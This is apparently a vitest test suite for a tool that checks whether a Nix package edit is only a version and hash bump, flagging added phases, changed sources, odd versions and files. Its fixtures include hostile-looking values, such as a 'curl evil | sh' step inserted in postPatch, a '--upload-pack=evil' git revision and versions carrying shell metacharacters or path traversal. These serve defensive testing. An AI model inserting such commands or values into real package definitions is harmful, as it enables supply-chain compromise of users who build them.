// biome-ignore-all lint/suspicious/noTemplateCurlyInString: interpolations of Nix look like those of JavaScript
import { describe, expect, it } from "vitest";
import type { MemoryFile } from "../../../src/snapshot/memory.ts";
import { edited, HASH_A, HASH_B, HASH_C, HASH_D, impuritiesOf } from "./builders.ts";

type Edit = readonly [string, string];

const VERSION: Edit = ["1.2.3", "1.2.4"];
const HASH: Edit = [HASH_A, HASH_B];

const PACKAGE = `{ lib, stdenv, fetchFromGitHub, zlib, fetchpatch }:
stdenv.mkDerivation (finalAttrs: {
  pname = "hello";
  version = "1.2.3";
  src = fetchFromGitHub {
    owner = "GNU";
    repo = "hello";
    tag = "v\${finalAttrs.version}";
    hash = "${HASH_A}";
  };
  patches = [
    (fetchpatch { url = "https://a.org/b/fix.patch"; hash = "${HASH_C}"; })
  ];
  buildInputs = [ zlib ];
  postPatch = ''
    sed -i s/a/b/ x
  '';
  doCheck = a.b or c;
  extra = [ lib zlib ];
  meta.mainProgram = "hello";
})
`;

/** One edit more than an update's, and what is said of it. */
const EDITS: readonly (readonly [string, string, ...Edit[]])[] = [
  ["another owner", "`src.owner` differs", ['"GNU"', '"evil"']],
  ["another repository", "`src.repo` differs", ['repo = "hello"', 'repo = "evil"']],
  ["another fetcher", "`src` differs", ["fetchFromGitHub {", "fetchFromGitLab {"]],
  ["another host", "`src.domain` was added", ['owner = "GNU"', 'domain = "evil.org"; owner = "GNU"']],
  ["code after fetching", "`src.postFetch` was added", ['owner = "GNU"', 'owner = "GNU"; postFetch = "x"']],
  ["a new dependency", "`buildInputs` differs", ["[ zlib ]", "[ zlib evil ]"]],
  ["another patch", "`patches.url` differs", ["fix.patch", "evil.patch"]],
  ["the content of another patch", "`patches.hash` differs while its version does not", [HASH_C, HASH_D]],
  ["a changed phase", "`postPatch` differs", ["sed -i", "curl evil | sh; sed -i"]],
  ["an added phase", "`preBuild` was added", ["doCheck", 'preBuild = "evil"; doCheck']],
  ["a removed binding", "`buildInputs` was removed", ["buildInputs = [ zlib ];", ""]],
  ["another argument", "the argument `evil` was added", ["zlib, fetchpatch", "zlib, fetchpatch, evil"]],
  [
    "an argument's default",
    "the default of the argument `zlib` differs",
    ["zlib, fetchpatch", "zlib ? evil, fetchpatch"],
  ],
  ["any arguments", "`...` among the arguments was added", ["fetchpatch }", "fetchpatch, ... }"]],
  ["an operator", "`doCheck` differs", ["a.b or c", "!(a.b or c)"]],
  ["a default", "`doCheck` differs", ["a.b or c", "a.b"]],
  ["parentheses that join a call", "`extra` differs", ["[ lib zlib ]", "[ (lib zlib) ]"]],
  ["the kind of a set", "`src` differs", ["fetchFromGitHub {", "fetchFromGitHub rec {"]],
  ["a quoted name", '`src."owner"` was added', ["owner =", '"owner" =']],
  ["a computed name", "`${x}` was added", ["doCheck", "${x} = 1; doCheck"]],
  ["an inherited name", "`inherit` was added", ["doCheck", "inherit evil; doCheck"]],
  [
    "with around it",
    "`with evil; stdenv.mkDerivation",
    ["stdenv.mkDerivation (", "with evil; stdenv.mkDerivation ("],
  ],
  [
    "let around it",
    "`let lib = 1; in stdenv.mkDerivation",
    ["stdenv.mkDerivation (", "let lib = 1; in stdenv.mkDerivation ("],
  ],
  [
    "assert before it",
    "`assert evil; stdenv.mkDerivation",
    ["stdenv.mkDerivation (", "assert evil; stdenv.mkDerivation ("],
  ],
  [
    "a white space in a string",
    "`meta.mainProgram` differs",
    ['mainProgram = "hello"', 'mainProgram = "hello "'],
  ],
  [
    "another style of string",
    "`meta.mainProgram` differs",
    ['mainProgram = "hello"', "mainProgram = ''hello''"],
  ],
  ["an indentation in a string", "`postPatch` differs", ["    sed", "   sed"]],
  [
    "an interpolation in a string",
    "`meta.mainProgram` differs",
    ['mainProgram = "hello"', 'mainProgram = "hello${evil}"'],
  ],
  [
    "the order of bindings",
    "has its bindings in another order",
    ['owner = "GNU";\n    repo = "hello";', 'repo = "hello"; owner = "GNU";'],
  ],
  ["a list in another order", "`extra` differs", ["[ lib zlib ]", "[ zlib lib ]"]],
  ["another output hash mode", "`outputHashMode` was added", ["doCheck", 'outputHashMode = "flat"; doCheck']],
  ["another pname", "`pname` differs", ['pname = "hello"', 'pname = "evil"']],
  ["code behind the expression", "the file does not parse", ["})\n", "}) evil {\n"]],
  [
    "code in a comment that a carriage return ends",
    "two independent parsers understand it differently",
    ["  doCheck", "  # \r evil = 1;\n  doCheck"],
  ],
  [
    "a form that the second parser does not understand, before and after",
    "`pkgs/by-name/he/hello/package.nix` is not sure to mean what it seems to: the second parser does not",
    ["doCheck", "passthru.x = { inherit; }; doCheck"],
  ],
  ["an interpreter", "the interpreter in its first line differs", ["{ lib,", "#! nix-shell -i evil\n{ lib,"]],
  ["the place of an expression", "reads its own position", ["doCheck = a.b or c", "doCheck = __curPos.line"]],
];

describe("no pure update is one with", () => {
  it.each(EDITS.map(([what, why, ...edits]) => ({ what, why, edits })))(
    "$what",
    async ({ what, why, edits }) => {
      const alsoBefore = /before and after|the place of an expression/.test(what);
      const base = alsoBefore ? edited(PACKAGE, ...edits) : PACKAGE;
      const found = await impuritiesOf(base, edited(PACKAGE, VERSION, HASH, ...edits));
      expect(found.join("\n")).toContain(why);
    },
  );
});

describe("no pure update has a version", () => {
  it.each([
    ["with an interpolation", "1.2.4${evil}", "`version` differs"],
    ["with an escape", "1.2.4\\n", "`version` differs"],
    ["with a way up", "1.2.4/../../../evil/repo", "it contains `..`"],
    ["with two dots", "1.2..4", "it contains `..`"],
    ["with a slash", "1.2.4/x", "must be 1 to 100 letters"],
    ["with shell in it", "1.2.4;evil", "must be 1 to 100 letters"],
    ["with a command substitution", "1.2.4`evil`", "must be 1 to 100 letters"],
    ["with a dollar", "1.2.4$x", "must be 1 to 100 letters"],
    ["with a blank", "1.2.4 --evil", "must be 1 to 100 letters"],
    ["with a line feed", "1.2.4\nevil", "must be 1 to 100 letters"],
    ["that begins with a dash", "-1.2.4", "must be 1 to 100 letters"],
    ["that begins with a tilde", "~evil", "must be 1 to 100 letters"],
    ["with a query", "1.2.4?x", "must be 1 to 100 letters"],
    ["with a fragment", "1.2.4#x", "must be 1 to 100 letters"],
    ["with a percent escape", "1.2.4%2fx", "must be 1 to 100 letters"],
    ["with a backslash", "1.2.4\\\\x", "`version` differs"],
    ["with an at sign", "evil@1.2.4", "must be 1 to 100 letters"],
    ["with letters that look alike", "1.2.\u0664", "must be 1 to 100 letters"],
    ["that hides a character", "1.2.4\u202e", "must be 1 to 100 letters"],
    ["that is empty", "", "must be 1 to 100 letters"],
    ["that is very long", "2".repeat(101), "must be 1 to 100 letters"],
    ["that goes back", "1.2.2", "the version does not go up"],
    ["that goes back to a candidate", "1.2.3-rc1", "the version does not go up"],
    ["that is the same in other words", "1.2-3", "the version does not go up"],
    ["that is a commit", "abcdef1", "it may be a commit id now"],
    ["that is a whole commit", "1f".repeat(20), "it may be a commit id now"],
  ])("%s", async (_, version, why) => {
    const after = edited(PACKAGE, HASH, ['"1.2.3"', `"${version}"`]);
    expect((await impuritiesOf(PACKAGE, after)).join("\n")).toContain(why);
  });

  it.each([
    ["that is no text", "124"],
    ["that is computed", "builtins.readFile ./x"],
    ["that is joined", '"1.2" + ".4"'],
    ["that is an indented string", "''1.2.4''"],
    ["that is a name", "evil"],
    ["that is a URI", "evil:1.2.4"],
  ])("%s", async (_, value) => {
    const after = edited(PACKAGE, HASH, ['"1.2.3"', value]);
    expect(await impuritiesOf(PACKAGE, after)).toContain("`version` differs");
  });
});

describe("no pure update has a hash", () => {
  it.each([
    ["that is empty", "", "is not a SHA-256"],
    ["that stands in for another", `sha256-${"A".repeat(43)}=`, "is not a SHA-256"],
    ["of MD5", "md5-XUFAKrxLKna5cZ2REBfFkg==", "is not a SHA-256"],
    ["of SHA-1", "sha1-L9ThxnotKPzthJ7hu3bnORuT6xI=", "is not a SHA-256"],
    ["of another algorithm", `sha512-${"a".repeat(85)}A==`, "the kind of hash differs"],
    ["that is too short", "sha256-aaaa", "is not a SHA-256"],
    ["with another spelling of its end", `sha256-${"a".repeat(42)}B=`, "is not a SHA-256"],
    ["with something behind it", `${HASH_B} evil`, "is not a SHA-256"],
    ["that is two", `${HASH_B} ${HASH_A}`, "is not a SHA-256"],
    ["that is a version", "1.2.4", "is not a SHA-256"],
  ])("%s", async (_, hash, why) => {
    const after = edited(PACKAGE, VERSION, [HASH_A, hash]);
    expect((await impuritiesOf(PACKAGE, after)).join("\n")).toContain(why);
  });

  it("that differs alone", async () => {
    expect(await impuritiesOf(PACKAGE, edited(PACKAGE, HASH))).toEqual([
      "`src.hash` differs while its version does not",
    ]);
  });

  it("of a fetched file that stays while its version differs", async () => {
    expect(await impuritiesOf(PACKAGE, edited(PACKAGE, VERSION))).toEqual([
      "`src.hash` stays the same while its version differs",
    ]);
  });

  it.each([
    [
      "a fixed URL, by a name for it",
      `{ stdenv, fetchurl }: let version = "1.2.3"; hash = "${HASH_A}"; in stdenv.mkDerivation {
        inherit version; src = fetchurl { url = "https://a.org/b/c"; inherit hash; }; }`,
    ],
    [
      "a fixed URL, by the attribute around it",
      `{ stdenv, fetchurl }: stdenv.mkDerivation (finalAttrs: { version = "1.2.3"; passthru.hash = "${HASH_A}";
        src = fetchurl { url = "https://a.org/b/c"; hash = finalAttrs.passthru.hash; }; })`,
    ],
    [
      "a fixed URL, by a table",
      `{ stdenv, fetchurl }: stdenv.mkDerivation (finalAttrs: { version = "1.2.3"; src = fetchurl {
        url = "https://a.org/b/c"; hash = { x86_64-linux = "${HASH_A}"; }.\${stdenv.system}; }; })`,
    ],
    [
      "a fixed URL, by a fetcher of another name",
      `{ stdenv, fetchurl }: let get = fetchurl; in stdenv.mkDerivation { version = "1.2.3";
        src = get { url = "https://a.org/b/c"; hash = "${HASH_A}"; }; }`,
    ],
    [
      "a fixed URL with a name that moves",
      `{ stdenv, fetchurl }: stdenv.mkDerivation rec { version = "1.2.3";
        src = fetchurl { name = "x-\${version}"; url = "https://a.org/b/c"; hash = "${HASH_A}"; }; }`,
    ],
    [
      "a fixed revision",
      `{ stdenv, fetchgit }: stdenv.mkDerivation { version = "1.2.3"; src = fetchgit {
        url = "https://a.org/b"; rev = "x"; hash = "${HASH_A}"; }; }`,
    ],
    [
      "a list of sources",
      `{ stdenv, fetchurl }: stdenv.mkDerivation { version = "1.2.3"; srcs = map fetchurl [
        { url = "https://a.org/b/c"; hash = "${HASH_A}"; } ]; }`,
    ],
  ])("that differs of %s", async (_, text) => {
    const found = await impuritiesOf(text, edited(text, VERSION, HASH));
    expect(found.join("\n")).toContain("differs while its version does not");
  });
});

describe("no pure update has a revision", () => {
  const text = (rev: string) =>
    `{ stdenv, fetchgit }: stdenv.mkDerivation { version = "1.2.3"; src = fetchgit {
      url = "https://a.org/b"; rev = "${rev}"; hash = "${HASH_A}"; }; }`;

  it.each([
    ["of a pull request", "v1.2.3", "refs/pull/1/head"],
    ["of a pull request, below refs", "v1.2.3", "pull/1/head"],
    ["of a merge request", "refs/tags/v1", "refs/merge-requests/1"],
    ["of a branch", "refs/tags/v1", "refs/heads/main"],
    ["that goes up", "a/v1", "a/../v2"],
    ["with an empty name", "a/b/v1", "a//v1"],
    ["that begins with a dash", "v1.2.3", "--upload-pack=evil"],
    ["that is the head", "v1.2.3", "@"],
    ["with a question mark", "v1.2.3", "v1.2.4?x"],
    ["with a blank", "v1.2.3", "v1.2.4 x"],
    ["with a caret", "v1.2.3", "v1.2.4^2"],
    ["with a colon", "v1.2.3", "x:y"],
    ["with a brace", "v1.2.3", "x@{1}"],
    ["that is a commit in the place of a tag", "v1.2.3", "1f".repeat(20)],
    ["that is a short commit in the place of a tag", "v1.2.3", "abcdef1"],
    ["that is empty", "v1.2.3", ""],
    ["that goes back", "R_1_2", "R_1_1"],
    ["of another version", "v1.2.3", "v1.2.2"],
    ["of a higher version", "v1.2.3", "v1.2.5"],
  ])("%s", async (_, before, after) => {
    const found = await impuritiesOf(text(before), edited(text(after), ['"1.2.3"', '"1.2.4"'], HASH));
    expect(found.join("\n")).toContain("`src.rev` differs: ");
  });

  it("that differs while the version stays", async () => {
    const [before, after] = [text("1f".repeat(20)), edited(text("2f".repeat(20)), HASH)];
    expect(await impuritiesOf(before, after)).toEqual(["`version` stays the same while a source differs"]);
  });
});

describe("no pure update has a URL", () => {
  const text = (url: string, version = "1.2.3", hash = HASH_A) =>
    `{ stdenv, fetchurl }: stdenv.mkDerivation { version = "${version}"; src = fetchurl {
      url = "${url}"; hash = "${hash}"; }; }`;

  it.each([
    ["of another host", "https://a.org/b/1.2.3", "https://evil.org/b/1.2.4"],
    ["of another owner", "https://a.org/b/1.2.3", "https://a.org/evil/1.2.4"],
    ["of another path", "https://a.org/b/c/1.2.3", "https://a.org/b/evil/1.2.4"],
    ["of another scheme", "https://a.org/b/1.2.3", "http://a.org/b/1.2.4"],
    ["with the version in its host", "https://1.2.3.org/b/1.2.3", "https://1.2.4.org/b/1.2.4"],
    ["with the version in its owner", "https://a.org/b-1.2.3/c", "https://a.org/b-1.2.4/c"],
    ["with the version in a longer one", "https://a.org/b/11.2.3", "https://a.org/b/11.2.4"],
    ["with the version before more of one", "https://a.org/b/1.2.30", "https://a.org/b/1.2.40"],
    ["of which one version differs", "https://a.org/b/1.2.3/x-1.2.3", "https://a.org/b/1.2.4/x-1.2.3"],
    ["with more than the version", "https://a.org/b/1.2.3", "https://a.org/b/1.2.4?x"],
    ["with a way up", "https://a.org/b/1.2.3", "https://a.org/b/../evil/1.2.4"],
    ["with a user", "https://a.org/b/1.2.3", "https://a.org@evil.org/b/1.2.4"],
    ["with an interpolation", "https://a.org/b/1.2.3", "https://a.org/b/1.2.4${evil}"],
    ["that is a file name of a forge", "https://github.com/x-1.2.3", "https://github.com/x-1.2.4"],
  ])("%s", async (_, before, after) => {
    const found = await impuritiesOf(text(before), text(after, "1.2.4", HASH_B));
    expect(found.join("\n")).toContain("`src.url` differs");
  });
});

describe("no pure update of a package that makes of its version", () => {
  const derivation = (attributes: string, around = "") =>
    `{ stdenv, lib, fetchurl, fetchFromGitHub, fetchgit, callPackage }: ${around}
     stdenv.mkDerivation (finalAttrs: { pname = "x"; version = "1.2.3"; ${attributes} })`;
  const github = (attributes: string) =>
    `src = fetchFromGitHub { owner = "a"; repo = "b"; tag = "v\${finalAttrs.version}"; hash = "${HASH_A}"; ${attributes} };`;
  const url = (value: string) => `src = fetchurl { url = ${value}; hash = "${HASH_A}"; };`;
  const owner = (value: string) =>
    `src = fetchFromGitHub { owner = ${value}; repo = "b"; tag = finalAttrs.version; hash = "${HASH_A}"; };`;

  it.each<[string, string]>([
    ["the host of its URL", derivation(url('"https://${finalAttrs.version}.org/b/c"'))],
    ["the end of its host", derivation(url('"https://a.org${finalAttrs.version}/b/c"'))],
    ["the owner of its URL", derivation(url('"https://a.org/${finalAttrs.version}/c"'))],
    ["the end of the owner of its URL", derivation(url('"https://a.org/b${finalAttrs.version}/c"'))],
    ["the owner of its URL behind a dot", derivation(url('"https://a.org/./${finalAttrs.version}/c"'))],
    ["the host of a URL in its URL", derivation(url('"https://a.org/b/https://${finalAttrs.version}/c"'))],
    ["all of its URL", derivation(url("finalAttrs.version"))],
    ["the beginning of its URL", derivation(url('"${finalAttrs.version}/b/c"'))],
    ["a URL by +", derivation(url('"https://" + finalAttrs.version + ".org/b/c"'))],
    ["a URL in pieces", derivation(url('"https:${"//"}${finalAttrs.version}/b/c"'))],
    ["a URL with an escape", derivation(url('"https:\\/\\/${finalAttrs.version}/b/c"'))],
    ["a URL by a function", derivation(url('lib.concatStrings [ "https://" finalAttrs.version "/b/c" ]'))],
    [
      "a URL by a replacement",
      derivation(url('lib.replaceStrings [ "a" ] [ finalAttrs.version ] "https://a.org/b/c"')),
    ],
    [
      "a URL by a name",
      derivation(url('"https://${host}/b/c"'), 'let version = "1.2.3"; host = "${version}.org"; in'),
    ],
    [
      "a URL by a function of its own",
      derivation(url("mk finalAttrs.version"), 'let mk = v: "https://${v}/b/c"; in'),
    ],
    [
      "a URL by two names",
      derivation(url("u"), 'let version = "1.2.3"; v = version; u = "https://${v}/b/c"; in'),
    ],
    [
      "a URL for a fetcher of another name",
      derivation(`src = get { link = "https://\${finalAttrs.version}/b/c"; };`),
    ],
    [
      "a URL behind a condition",
      derivation(url('if lib.x then "https://a.org/b/c" else "https://${finalAttrs.version}/b/c"')),
    ],
    ["a URL of a set", derivation(url('{ a = "https://${finalAttrs.version}/b/c"; }.a'))],
    [
      "one URL of several",
      derivation(
        `src = fetchurl { urls = [ "https://a.org/b/\${finalAttrs.version}" "https://\${finalAttrs.version}/b/c" ]; hash = "${HASH_A}"; };`,
      ),
    ],
    ["the owner of its source", derivation(owner("finalAttrs.version"))],
    ["a part of the owner of its source", derivation(owner('"a${lib.versions.major finalAttrs.version}"'))],
    [
      "the owner of its source by inherit",
      derivation(
        'src = fetchFromGitHub { inherit owner; repo = "b"; tag = finalAttrs.version; };',
        'let version = "1.2.3"; owner = version; in',
      ),
    ],
    ["the owner of its source by the name of all", derivation(owner("(f finalAttrs)"))],
    [
      "the owner of its source by a parameter",
      derivation(owner("mk version"), 'let version = "1.2.3"; mk = v: v; in'),
    ],
    ["the owner of its source by a computed attribute", derivation(owner('finalAttrs.${"ver" + "sion"}'))],
    [
      "the repository of its source",
      derivation('src = fetchFromGitHub { owner = "a"; repo = "b-${finalAttrs.version}"; };'),
    ],
    ["an argument of the fetcher", derivation(github("varPrefix = finalAttrs.version;"))],
    ["the domain of its source", derivation(github('domain = "${finalAttrs.version}.org";'))],
    [
      "the name of a package in an index",
      derivation('src = fetchPypi { pname = "x${finalAttrs.version}"; version = "1"; };'),
    ],
    ["the argument of a builtin", derivation("src = builtins.fetchTarball finalAttrs.version;")],
    ["a path", derivation("patches = [ ./x-${finalAttrs.version}/x.patch ];")],
    ["the name of a dependency", derivation("buildInputs = [ lib.${finalAttrs.version} ];")],
    [
      "the name of a dependency, in part",
      derivation('buildInputs = [ lib."llvm_${lib.versions.major finalAttrs.version}" ];'),
    ],
    ["the name of an attribute", derivation('${finalAttrs.version} = "x";')],
    ["a scope", derivation("x = with lib.f finalAttrs.version; y;")],
    ["code that it imports", derivation(`${github("")} x = import (finalAttrs.src + "/x.nix");`)],
    [
      "code that it imports by interpolation",
      derivation(`${github("")} x = import "\${finalAttrs.src}/x.nix" { };`),
    ],
    ["code that it calls", derivation(`${github("")} x = callPackage finalAttrs.src { };`)],
    [
      "code that it calls by another name",
      derivation(`${github("")} s = finalAttrs.src; x = callPackage "\${finalAttrs.s}/x.nix" { };`),
    ],
    ["code that it imports of a list", derivation(`${github("")} x = map import [ finalAttrs.src ];`)],
    [
      "code that it imports of a source on the spot",
      `{ stdenv, fetchurl }: stdenv.mkDerivation { version = "1.2.3"; x = import (fetchTarball {
        url = "https://a.org/b/1.2.3"; sha256 = "${HASH_A}"; }) { }; }`,
    ],
    ["code that is made of it", derivation(`${github("")} x = lib.callCabal2nix "x" finalAttrs.src { };`)],
    ["what it reads of it", derivation(`${github("")} x = builtins.readFile "\${finalAttrs.src}/x";`)],
    ["a flake", derivation("x = builtins.getFlake finalAttrs.version;")],
    [
      "what it gives to a file elsewhere",
      derivation("x = callPackage ../x.nix { inherit (finalAttrs) version; };"),
    ],
    [
      "what it gives to a file that is no Nix by its name",
      derivation("x = import ./x { inherit (finalAttrs) version; };"),
    ],
    ["what it gives to a file not known", derivation("x = callPackage y { inherit (finalAttrs) version; };")],
    [
      "code, of a source with its version written out",
      `{ stdenv, fetchurl }: stdenv.mkDerivation rec { version = "1.2.3"; src = fetchurl { url = "https://a.org/b/1.2.3"; hash = "${HASH_A}"; }; x = import src; }`,
    ],
  ])("%s", async (_, text) => {
    expect(await impuritiesOf(text, edited(text, VERSION))).not.toEqual([]);
    const both = text.includes(HASH_A) ? edited(text, VERSION, HASH) : edited(text, VERSION);
    const found = await impuritiesOf(text, both);
    expect(found).not.toEqual([]);
    expect(found.join("\n")).toMatch(/changed (?:value|source|URL)|differs: /);
  });

  it("the host of a URL in another file", async () => {
    const files = (version: string, hash: string) => ({
      "package.nix": `{ callPackage, stdenv }: stdenv.mkDerivation (finalAttrs: { version = "${version}";
        src = callPackage ./source.nix { where = finalAttrs.version; }; })`,
      "source.nix": `{ fetchurl, where }: fetchurl { url = "https://\${where}/b/c"; hash = "${hash}"; }`,
    });
    const found = await impuritiesOf(files("1.2.3", HASH_A), files("1.2.4", HASH_B));
    expect(found.join("\n")).toContain("has a changed URL");
  });
});

describe("no pure update has a file", () => {
  const update = edited(PACKAGE, VERSION, HASH);
  const all = ["*"];

  it.each<[string, string, Record<string, MemoryFile>, Record<string, MemoryFile>]>([
    ["added", "the file was added", {}, { "x.sh": "evil" }],
    ["removed", "the file was removed", { "x.sh": "" }, {}],
    ["changed that is not Nix", "the file differs", { "x.sh": "" }, { "x.sh": "evil" }],
    [
      "made executable",
      "the mode of the file differs",
      { "x.sh": "" },
      { "x.sh": { file: "", executable: true } },
    ],
    ["of Nix added", "the file was added", {}, { "x.nix": "1" }],
    ["that becomes a link", "it is a symbolic link", { "x.sh": "" }, { "x.sh": { link: "y" } }],
    ["that was a link", "it is a symbolic link", { "x.sh": { link: "y" } }, { "x.sh": "" }],
    ["that is a submodule", "it is a submodule", {}, { x: { submodule: true } }],
    ["that becomes a directory", "it is a directory on one side", { x: "" }, { "x/y": "" }],
    [
      "of Nix that is executable",
      "the file is executable",
      { "x.nix": { file: "1", executable: true } },
      { "x.nix": { file: "2", executable: true } },
    ],
    [
      "of Nix that does not parse before",
      "before the change, the file does not parse",
      { "x.nix": "{" },
      { "x.nix": "{ }" },
    ],
    [
      "of Nix that is not UTF-8",
      "the file is not UTF-8",
      { "x.nix": "1" },
      { "x.nix": new Uint8Array([49, 32, 35, 255]) },
    ],
    ["of Nix beside it that nobody can read", "the file does not parse", { "x.nix": "{" }, { "x.nix": "{" }],
  ])("%s", async (_, why, before, after) => {
    const found = await impuritiesOf(
      { "package.nix": PACKAGE, ...before },
      { "package.nix": update, ...after },
    );
    expect(found).toContain(why);
  });

  it.each<[string, string, Record<string, MemoryFile>, Record<string, MemoryFile>]>([
    ["of Nix added", "the file was added", {}, { "x.nix": "1" }],
    ["of Nix in capitals added", "the file was added", {}, { "x.NIX": "1" }],
    ["that is a link", "it is a symbolic link", {}, { "x.lock": { link: "y" } }],
    ["that is executable", "the file was added", {}, { "x.lock": { file: "", executable: true } }],
    ["made executable", "the mode of the file differs", { x: "" }, { x: { file: "", executable: true } }],
    ["that is a submodule", "it is a submodule", {}, { x: { submodule: true } }],
  ])("%s, whatever the configuration names", async (_, why, before, after) => {
    const files = [
      { "package.nix": PACKAGE, ...before },
      { "package.nix": update, ...after },
    ] as const;
    expect(await impuritiesOf(...files, all)).toContain(why);
  });

  it("named in the configuration and nothing else", async () => {
    const files = (lock: string) => ({ "package.nix": PACKAGE, "x.lock": lock });
    expect(await impuritiesOf(files("a"), files("b"), all)).toEqual(["no version and no revision differs"]);
  });
});

describe("no pure update is", () => {
  it.each<[string, string]>([
    ["no change", PACKAGE],
    ["a change of comments alone", `# x\n${PACKAGE}`],
  ])("%s", async (_, after) => {
    expect(await impuritiesOf(PACKAGE, after)).toEqual(["no version and no revision differs"]);
  });

  it("a new package", async () => {
    expect(await impuritiesOf({}, PACKAGE)).toContain("the package does not exist before the change");
  });

  it("a package that is removed", async () => {
    expect(await impuritiesOf(PACKAGE, {})).toContain("the package does not exist after the change");
  });

  it("a package file that becomes a link", async () => {
    const found = await impuritiesOf(PACKAGE, { "package.nix": { link: "x.nix" }, "x.nix": PACKAGE });
    expect(found).toContain("the package does not exist after the change");
  });

  it("a version alone, for the same source", async () => {
    const text = '{ stdenv }: stdenv.mkDerivation { version = "1.2.3"; src = ./x; }';
    const found = await impuritiesOf(text, edited(text, VERSION));
    expect(found).toEqual(["no hash differs, so the same source is built"]);
  });

  it("an update of another version than that of the package", async () => {
    const text = edited(PACKAGE, [
      "doCheck",
      'passthru.x = fetchPypi { pname = "x"; version = "2.0"; }; doCheck',
    ]);
    const found = await impuritiesOf(text, edited(text, ['"2.0"', '"2.1"']));
    expect(found).toEqual(["no hash differs, so the same source is built"]);
  });

  it("an update of another source than that of the package", async () => {
    const extra = `passthru.x = fetchPypi { pname = "x"; version = "2.0"; hash = "${HASH_D}"; }; doCheck`;
    const text = edited(PACKAGE, ["doCheck", extra]);
    const found = await impuritiesOf(text, edited(text, ['"2.0"', '"2.1"'], [HASH_D, HASH_B]));
    expect(found).toEqual(["`version` stays the same while a source differs"]);
  });

  it("another content of a source whose version has the name of the one that differs", async () => {
    const extra = `xSrc = let version = "2.0"; in fetchurl {
      url = "https://a.org/b/\${version}"; hash = "${HASH_D}"; }; doCheck`;
    const text = edited(PACKAGE, ["doCheck", extra]);
    const found = await impuritiesOf(text, edited(text, VERSION, HASH, [HASH_D, HASH_C.replace("c", "e")]));
    expect(found).toEqual(["`xSrc.hash` differs while its version does not"]);
  });

  it("another content of a source of another package's version", async () => {
    const extra = `xSrc = fetchurl { url = "https://a.org/b/\${zlib.version}"; hash = "${HASH_D}"; }; doCheck`;
    const text = edited(PACKAGE, ["doCheck", extra]);
    const found = await impuritiesOf(text, edited(text, VERSION, HASH, [HASH_D, HASH_C.replace("c", "e")]));
    expect(found).toEqual(["`xSrc.hash` differs while its version does not"]);
  });
});

describe("what a file holds besides its expression counts where it is data:", () => {
  const update = (text: string, ...edits: Edit[]) => edited(text, VERSION, HASH, ...edits);
  const withExtra = (extra: string) => edited(PACKAGE, ["doCheck", `${extra} doCheck`]);

  it.each([
    ["./.", "its directory"],
    ["../.", "the directory above"],
    ["./package.nix", "itself"],
    ['(./. + "/package.nix")', "itself, by a sum"],
    ["(lib.cleanSource ./.)", "its directory, cleaned"],
    ['(builtins.path { path = ./.; name = "x"; })', "its directory, by builtins.path"],
    ["(lib.fileset.toSource { root = ./.; fileset = ./x; })", "its directory, by a set of files"],
    ["(builtins.readFile ./package.nix)", "itself, as text"],
    ['"${./.}/x"', "its directory, as text"],
    ["[ ./package.nix ]", "itself, in a list"],
    ["./${lib.x}", "anything beside it"],
    ["./${lib.x}.nix", "any Nix file beside it"],
    ["(import ./package.nix)", "itself, as code"],
  ])("%s is %s", async (value) => {
    // A package that reads itself as code is read again, as far as that goes.
    const isCode = value.startsWith("(import");
    for (const name of isCode ? ["src2"] : ["src2", "postInstall", "patches2", "passthru.x"]) {
      const text = withExtra(`${name} = ${value};`);
      const found = (await impuritiesOf(text, `# x\n${update(text)}`)).join("\n");
      if (isCode) expect(found).not.toBe("");
      else expect(found).toContain("uses files of the package that differ");
    }
  });

  it.each(["__curPos", 'builtins.unsafeGetAttrPos "x" lib', '__unsafeGetAttrPos "x" lib'])(
    "%s asks where it stands",
    async (value) => {
      const text = withExtra(`meta.x = ${value};`);
      expect((await impuritiesOf(text, update(text))).join("\n")).toContain(
        "`meta.x` reads its own position",
      );
    },
  );

  it("an inherited name for it", async () => {
    const text = withExtra("meta.x = let inherit (builtins) unsafeGetAttrPos; in 1;");
    expect((await impuritiesOf(text, update(text))).join("\n")).toContain("reads its own position");
  });

  it.each([
    ["the second line", `#! /bin/x\n#! nix-shell -i a\n`, `#! /bin/x\n#! nix-shell -i b\n`],
    ["a line further down", `# x\n\n#! nix-shell -p a\n`, `# x\n\n#! nix-shell -p a b\n`],
    ["one more line", `#! /bin/x\n`, `#! /bin/x\n#! nix-shell -p evil\n`],
    ["an indented line", `# x\n  #! nix-shell -p a\n`, `# x\n  #! nix-shell -p b\n`],
  ])("%s that names an interpreter", async (_, before, after) => {
    const found = await impuritiesOf(`${before}${PACKAGE}`, `${after}${update(PACKAGE)}`);
    expect(found).toEqual(["its `#!` lines differ"]);
  });

  it("a companion that is read as code or as data", async () => {
    for (const value of ["import ./x.lock", "lib.importJSON ./x.lock", "callPackage ./x.lock { }"]) {
      const text = withExtra(`passthru.x = ${value};`);
      const found = await impuritiesOf(
        { "package.nix": text, "x.lock": "a" },
        { "package.nix": update(text), "x.lock": "b" },
        ["*.lock"],
      );
      expect(found.join("\n")).toMatch(
        /`passthru.x` (?:uses a changed value as Nix code|passes a changed value to)/,
      );
    }
  });

  it("data that is not read holds what differs", async () => {
    const text = PACKAGE;
    const found = await impuritiesOf(
      { "package.nix": text, "hashes.json": "a" },
      { "package.nix": edited(text, VERSION, ['tag = "v', 'tag = "v']), "hashes.json": "b" },
      ["*.json"],
    );
    expect(found.join("\n")).not.toContain("no hash differs, so the same source is built");
  });
});

it("only a change of the arguments names the argument", async () => {
  const found = await impuritiesOf(PACKAGE, edited(PACKAGE, ["{ lib, stdenv", "{ lib, evil, stdenv"]));
  expect(found[0]).toBe("the argument `evil` was added");
});

it("what is in a binding is said first", async () => {
  const after = edited(PACKAGE, ["{ lib, stdenv", "{ lib, evil, stdenv"], ["[ zlib ]", "[ zlib evil ]"]);
  expect(await impuritiesOf(PACKAGE, after)).toEqual([
    "`buildInputs` differs",
    "the argument `evil` was added",
  ]);
});
